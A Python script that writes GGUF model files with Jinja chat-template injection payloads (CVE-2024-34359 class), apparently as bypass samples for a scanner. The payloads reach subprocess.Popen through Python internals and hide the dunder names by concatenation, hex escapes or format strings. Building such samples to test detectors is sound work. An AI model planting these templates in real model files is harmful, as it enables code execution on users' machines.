"""GGUF chat templates that reach Python internals (CVE-2024-34359 class, for a loader that
renders with a plain jinja2.Environment, e.g. llama-cpp-python < 0.2.72) with none of the
substrings moat looks for. Written only; never rendered."""
import os
import struct
O = os.path.dirname(os.path.abspath(__file__)) + "/"
def gguf(kvs):
    v = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kvs))
    for k, s in kvs:
        kb, sb = k.encode(), s.encode()
        v += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(sb)) + sb
    return v
base = "{{ ().__class__.__base__.__subclasses__() }}"
# T1: dunder names assembled with ~ and reached with |attr; class picked by name; `Popen` != `popen`
t1 = ("{% set u = '_' ~ '_' %}"
      "{% set c = ()|attr(u ~ 'class' ~ u)|attr(u ~ 'base' ~ u) %}"
      "{% for k in (c|attr(u ~ 'subclasses' ~ u))() %}"
      "{% if (k|attr(u ~ 'name' ~ u)) == 'Po' ~ 'pen' %}"
      "{{ k(['echo', 'pwned']).wait() }}"
      "{% endif %}{% endfor %}")
# T2: Jinja string escapes: '\x5f' is '_' once the literal is parsed
t2 = ("{% for k in ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')|list %}"
      "{% endfor %}")
# T3: format filter builds the name
t3 = "{{ ()|attr('%sclass%s'|format('__'[:2]|string, '_'*2)) }}"
for name, t in [("g0_baseline", base), ("g1_concat_attr", t1), ("g2_hex_escapes", t2), ("g3_format", t3)]:
    open(O + name + ".gguf", "wb").write(gguf([("general.name", "x"), ("tokenizer.chat_template", t)]))
print("ok")
